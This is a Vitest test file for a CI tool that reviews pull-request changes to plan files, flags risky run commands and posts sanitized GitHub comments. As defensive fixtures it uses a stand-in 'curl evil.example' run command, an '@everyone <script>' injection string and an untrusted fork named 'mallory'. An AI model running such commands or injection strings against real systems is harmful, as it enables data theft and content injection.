import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { REVIEW_MARKER } from '../../../src/core/ci/comment.ts';
import { PullRequestReview } from '../../../src/core/ci/review-record.ts';
import { githubServer, type GitHubServer } from '../../support/github-server.ts';
import { Repository } from '../../support/repository.ts';
import { PLAN, world } from '../world.ts';

let here: ReturnType<typeof world>;
let base: string;
beforeEach(() => {
  here = world();
  here.write('plans.config.yaml', 'qa:\n  gates:\n    - { name: test, run: npm test }\n');
  here.write('plans/greet.plan.md', PLAN);
  here.write('plans/old.plan.md', '# Old\n\n- [ ] Look\n');
  here.commit('first');
  base = revision('HEAD');
  here.git('switch', '-qc', 'feature');
});
afterEach(() => here.remove());

const codeThat = (mark: string) => `import { writeFileSync } from 'node:fs';\nwriteFileSync('${mark}', '');\nexport default {};\n`;

const suggestion = (id: string, run: string) =>
  `- [x] Change run of "Sing" @octocat\n\n  \`\`\`yaml\n  id: ${id}\n  type: modify_task\n  target: sing\n  \`\`\`\n\n  \`\`\`\`diff\n   - [ ] Sing\n\n     \`\`\`yaml\n     id: sing\n  +  run: ${run}\n     \`\`\`\n  \`\`\`\`\n`;

const revision = (name: string) => here.git('rev-parse', name).trim();

function change(files: Readonly<Record<string, string>>): string {
  for (const [name, text] of Object.entries(files)) here.write(name, text);
  here.commit('change');
  return revision('HEAD');
}

async function review(...argv: string[]) {
  const { code, out, err } = await here.plans(['ci', 'review', '--json', '--base', 'main', ...argv]);
  return { code, err, review: PullRequestReview.parse(JSON.parse(out)) };
}

/** A step of a workflow on a pull request. */
function step(head: string, number = 7, fork: object | null = null): Record<string, string> {
  const folder = join(here.root, '.git');
  writeFileSync(
    join(folder, 'event.json'),
    JSON.stringify({ pull_request: { number, base: { sha: base, repo: { id: 1 } }, head: { sha: head, repo: fork } } }),
  );
  return {
    GITHUB_ACTIONS: 'true',
    GITHUB_REPOSITORY: 'octo/demo',
    GITHUB_EVENT_NAME: 'pull_request_target',
    GITHUB_EVENT_PATH: join(folder, 'event.json'),
    GITHUB_STEP_SUMMARY: join(folder, 'summary.md'),
  };
}

describe('a review', () => {
  it('is of what the branch has done since it parted, renamed, new and deleted plans too', async () => {
    here.git('switch', '-q', 'main');
    here.write('plans/later.plan.md', PLAN);
    here.commit('on main meanwhile');
    here.git('switch', '-q', 'feature');
    here.git('mv', 'plans/greet.plan.md', 'plans/hail.plan.md');
    here.git('rm', '-q', 'plans/old.plan.md');
    change({ 'plans/other.plan.md': '# Other\n\n- [ ] Wait\n', 'plans/hail.plan.md': PLAN.replace('echo bye', 'curl evil.example') });
    const { code, review: found } = await review();
    expect(code).toBe(0);
    expect(found.diff.plans.map(({ type, before, after }) => [type, before?.id ?? null, after?.id ?? null])).toEqual([
      ['renamed', 'greet', 'hail'],
      ['removed', 'old', null],
      ['added', null, 'other'],
    ]);
    expect(found.outlooks.map(({ outcome }) => outcome)).toEqual(['runs', 'removed', 'draft']);
    expect(found.outlooks).toMatchObject([{ plan: 'hail', outcome: 'runs', ceilingUsd: 200 }, {}, {}]);
    expect(found.outlooks[0]?.steps).toMatchObject([
      { task: 'greeting', run: 'echo hello > hello.txt', gates: ['test'] },
      { task: 'farewell', run: 'curl evil.example > bye.txt' },
      { type: 'pause', reason: 'human_task', task: 'read' },
    ]);
    expect(existsSync(join(here.root, '.plans'))).toBe(false);
  });

  it('checks names against the config as it will be, and says what becomes of the config', async () => {
    change({
      'plans.config.yaml': 'qa:\n  gates:\n    - { name: test, run: "true" }\n    - { name: lint, run: npm run lint }\n',
      'plans/greet.plan.md': PLAN.replace('id: greeting\n', 'id: greeting\n  gates: [lint]\n').replace(
        'id: farewell\n',
        'id: farewell\n  gates: [nothing]\n',
      ),
    });
    const { code, review: found } = await review();
    expect(code).toBe(1);
    expect(found.diff.plans[0]?.after?.diagnostics).toMatchObject([{ rule: 'unknown-gate', severity: 'error' }]);
    expect(found.config?.keys).toContainEqual({ key: 'qa.gates.test.run', before: '"npm test"', after: '"true"' });
  });

  it('says which plans have changed on the base too', async () => {
    change({ 'plans/greet.plan.md': PLAN.replace('echo bye', 'echo goodbye'), 'plans/old.plan.md': '# Old\n\n- [ ] Look up\n' });
    here.git('switch', '-q', 'main');
    change({ 'plans/greet.plan.md': PLAN.replace('echo hello', 'echo hi') });
    const { review: found } = await review('--head', 'feature');
    expect([found.alsoOnBase, found.diff.plans.map(({ after }) => after?.id)]).toEqual([['greet'], ['greet', 'old']]);
  });

  it('tells what reviews of plans suggest, as far as it is code', async () => {
    const plan = '# Greet people\n\n- [ ] Sing\n\n  ```yaml\n  id: sing\n  ```\n';
    here.git('switch', '-q', 'main');
    change({ 'plans/sing.plan.md': plan, 'plans/sing.review.md': `# Review\n\n${suggestion('old', 'make old')}` });
    here.git('switch', '-qC', 'feature');
    change({ 'plans/sing.review.md': `# Review\n\n${suggestion('old', 'make old')}\n${suggestion('new', 'curl evil.example')}` });
    const { review: found } = await review();
    expect(found.suggested).toMatchObject([
      { plan: 'sing', id: 'new', ticked: true, risks: [{ field: 'run', after: 'curl evil.example' }] },
    ]);
    const { out } = await here.plans(['ci', 'review', '--base', 'main']);
    expect(out).toContain(
      '- `sing` suggestion “Change run of "Sing" @&#8203;octocat”, **ticked**: ⚠ **run**: `curl evil.example` (a command that is run)\n',
    );
  });

  it('says that plans where only the config of the change looks for them are not reviewed', async () => {
    change({ 'plans.config.yaml': 'plans: work\n', 'work/evil.plan.md': PLAN });
    const { code, review: found } = await review();
    expect(code).toBe(1);
    expect(found.diff.problems).toEqual([
      expect.stringMatching(/moves the plans from plans\/ to work\/, and those in work\/ are not reviewed here/),
    ]);
    expect(found.config?.keys).toContainEqual({ key: 'plans', before: '"plans"', after: '"work"' });
  });

  it('believes no commit of a fork that says it was a run', async () => {
    here.write('plans/greet.plan.md', PLAN.replace('[ ] Write the greeting', '[x] Write the greeting'));
    here.commit('Write it\n\nPlan: greet\nPlan-Phase: write\nPlan-Task: greeting\nPlan-Attempt: 1/3\nPlan-Agent: run\n');
    const words = '`greet/greeting` is ticked by hand';
    for (const [fork, says] of [
      [{ id: 2 }, true],
      [null, true],
      [{ id: 1 }, false],
    ] as const) {
      await here.plans(['ci', 'review'], { env: step(revision('HEAD'), 7, fork) });
      expect(here.read('plans-review/comment.md').includes(words)).toBe(says);
    }
  });

  it('runs no config: neither that of the change nor that of the base, and says that it has not', async () => {
    here.git('switch', '-q', 'main');
    here.git('rm', '-q', 'plans.config.yaml');
    change({ 'plans.config.mjs': codeThat('base-ran'), 'work/greet.plan.md': PLAN });
    here.git('switch', '-qC', 'feature');
    change({
      'plans.config.mjs': codeThat('head-ran'),
      'work/greet.plan.md': PLAN.replace('id: greeting\n', 'id: greeting\n  gates: [any]\n'),
    });
    const { code: exit, review: found } = await review('--plans', 'work');
    expect([exit, here.git('status', '--porcelain')]).toEqual([0, '']);
    expect(found).toMatchObject({ unread: 'plans.config.mjs', config: { keys: null }, outlooks: [{ plan: 'greet', ceilingUsd: null }] });
    expect(found.config?.patch).toContain("+writeFileSync('head-ran', '');");
  });

  it('takes no file that is no plain one, or larger than any plan, for a plan', async () => {
    here.git('rm', '-q', 'plans/greet.plan.md');
    here.git(
      'update-index',
      '--add',
      '--cacheinfo',
      `120000,${here.git('hash-object', '-w', '--stdin', '-t', 'blob').trim()},plans/link.plan.md`,
    );
    here.git('commit', '-qm', 'a link');
    change({ 'plans/huge.plan.md': `# Huge\n\n${'x'.repeat(17 * 1024 * 1024)}` });
    here.git('switch', '-q', 'main');
    const { code, review: found } = await review('--head', 'feature');
    expect(code).toBe(1);
    expect(found.diff.plans.map(({ type, before }) => [type, before?.id])).toEqual([['removed', 'greet']]);
    expect(found.diff.problems).toEqual([expect.stringMatching(/huge\.plan\.md has \d+ bytes; more than \d+ are not read/)]);
  });

  it('says what is missing', async () => {
    for (const [argv, words] of [
      [['--head', 'nowhere'], /There is no commit nowhere/],
      [['--base', 'nowhere'], /There is no commit nowhere/],
    ] as const)
      expect(await here.plans(['ci', 'review', '--base', 'main', ...argv])).toMatchObject({ code: 2, err: expect.stringMatching(words) });
    expect(await here.plans(['ci', 'review'])).toMatchObject({ code: 2, err: expect.stringMatching(/--base BRANCH/) });
    expect(await here.plans(['ci', 'review'], { env: { ...step(base), GITHUB_EVENT_PATH: '' } })).toMatchObject({
      code: 2,
      err: expect.stringMatching(/is of no pull request/),
    });
  });

  it('at a desk prints the comment and writes nothing; in a workflow annotates, sums up and leaves files', async () => {
    const head = change({ 'plans/greet.plan.md': PLAN.replace('id: farewell\n', 'id: farewell\n  dependsOn: [gone]\n') });
    const desk = await here.plans(['ci', 'review', '--base', 'main']);
    expect([desk.code, desk.out]).toEqual([1, expect.stringMatching(/^## Plans\n\n\*\*1 plan\*\* changes · ❌ \*\*1 error\*\*/)]);
    expect(here.git('status', '--porcelain')).toBe('');
    const env = step(head);
    const { code, out } = await here.plans(['ci', 'review'], { env });
    expect([code, out]).toEqual([
      1,
      expect.stringMatching(/^::error file=plans\/greet\.plan\.md,line=20,.*title=unknown-dependency::.*\n$/),
    ]);
    expect(here.read('plans-review/comment.md')).toBe(desk.out.replace('main', ''));
    expect(here.read('plans-review/comment.md')).toBe(readFileSync(env['GITHUB_STEP_SUMMARY'] ?? '', 'utf8'));
    expect(JSON.parse(here.read('plans-review/plans.sarif'))).toMatchObject({
      version: '2.1.0',
      runs: [{ results: [{ level: 'error' }] }],
    });
  });
});

describe('the comment', () => {
  let server: GitHubServer;
  beforeEach(async () => {
    server = await githubServer(new Repository(here.root));
  });
  afterEach(() => server[Symbol.asyncDispose]());

  /** A pull request from a fork, which stands at `sha`. */
  function pull(sha: string, number = 7): void {
    server.state.pulls.push({
      number,
      head: 'mallory:feature',
      headRepository: { id: 99, fullName: 'mallory/demo' },
      headSha: sha,
      base: 'main',
      title: 'x',
      body: '',
      state: 'open',
      draft: false,
      user: { login: 'mallory', type: 'User', id: 5 },
    });
  }
  const comment = (head: string) =>
    here.plans(['ci', 'comment'], {
      env: { ...step(head), GITHUB_API_URL: server.apiUrl, GITHUB_TOKEN: server.issueToken({ 'pull-requests': 'write' }) },
    });
  const bodies = () => server.state.comments.map(({ user, body, edits }) => [user.login, body.split('\n')[0], edits]);

  it('is one, updated in place, and never somebody else’s with the same marker', async () => {
    server.state.comments.push({
      id: 1,
      issue: 7,
      user: { login: 'mallory', type: 'User', id: 5 },
      body: `${REVIEW_MARKER}\nmine`,
      edits: 0,
    });
    const first = change({ 'plans/greet.plan.md': PLAN.replace('echo bye', 'echo goodbye') });
    pull(first);
    await here.plans(['ci', 'review'], { env: step(first) });
    expect(await comment(first)).toMatchObject({ code: 0, out: expect.stringMatching(/^https:.*\n$/) });
    server.state.pulls.length = 0;
    const second = change({ 'plans/greet.plan.md': PLAN });
    pull(second);
    await here.plans(['ci', 'review'], { env: step(second) });
    expect(await comment(second)).toMatchObject({ code: 0 });
    expect(bodies()).toEqual([
      ['mallory', REVIEW_MARKER, 0],
      ['github-actions[bot]', REVIEW_MARKER, 1],
    ]);
    expect(server.state.comments[1]?.body).toContain('This pull request changes no plan.');
    expect(server.refusals).toEqual([]);
  });

  it('is not begun where no plan changes', async () => {
    const head = change({ 'README.md': 'x' });
    pull(head);
    await here.plans(['ci', 'review'], { env: step(head) });
    expect(await comment(head)).toMatchObject({ code: 0, out: '#7 changes no plan: there is nothing to say.\n' });
    expect(bodies()).toEqual([]);
  });

  it('is made from data that is checked: nothing that another job has left is posted as it is', async () => {
    const head = change({ 'plans/greet.plan.md': PLAN.replace('echo bye', 'echo goodbye') });
    pull(head);
    await here.plans(['ci', 'review'], { env: step(head) });
    here.write('plans-review/comment.md', '@everyone');
    const file = 'plans-review/review.json';
    const good = here.read(file);
    for (const [text, words] of [
      ['{', /review\.json cannot be read/],
      ['{"version":1}', /review\.json is no review: at "diff"/],
      [good.replace('"version":1', '"version":2'), /is no review: at "version"/],
      [good.replaceAll(head, base), /The review is of commit .*Nothing was posted/],
    ] as const) {
      here.write(file, text);
      expect(await comment(head)).toMatchObject({ code: 2, err: expect.stringMatching(words) });
    }
    expect(bodies()).toEqual([]);
    here.write(file, good.replaceAll('echo goodbye', '@everyone <script>'));
    expect(await comment(head)).toMatchObject({ code: 0 });
    expect(server.state.comments[0]?.body).not.toMatch(/^@everyone|<script>(?![^`]*`)/m);
  });

  it('is left to the newer review where the pull request has moved on', async () => {
    const head = change({ 'plans/greet.plan.md': PLAN.replace('echo bye', 'echo goodbye') });
    pull(base);
    await here.plans(['ci', 'review'], { env: step(head) });
    expect(await comment(head)).toMatchObject({ code: 0, out: `#7 is at ${base} by now: its own review follows.\n` });
    expect(bodies()).toEqual([]);
  });

  it('needs a token that may write it, and says so', async () => {
    const head = change({ 'plans/greet.plan.md': PLAN.replace('echo bye', 'echo goodbye') });
    pull(head);
    await here.plans(['ci', 'review'], { env: step(head) });
    const env = {
      ...step(head),
      GITHUB_API_URL: server.apiUrl,
      GITHUB_TOKEN: server.issueToken({ contents: 'read', 'pull-requests': 'read' }),
    };
    expect(await here.plans(['ci', 'comment'], { env })).toMatchObject({ code: 2, err: expect.stringMatching(/pull-requests: write/) });
  });
});
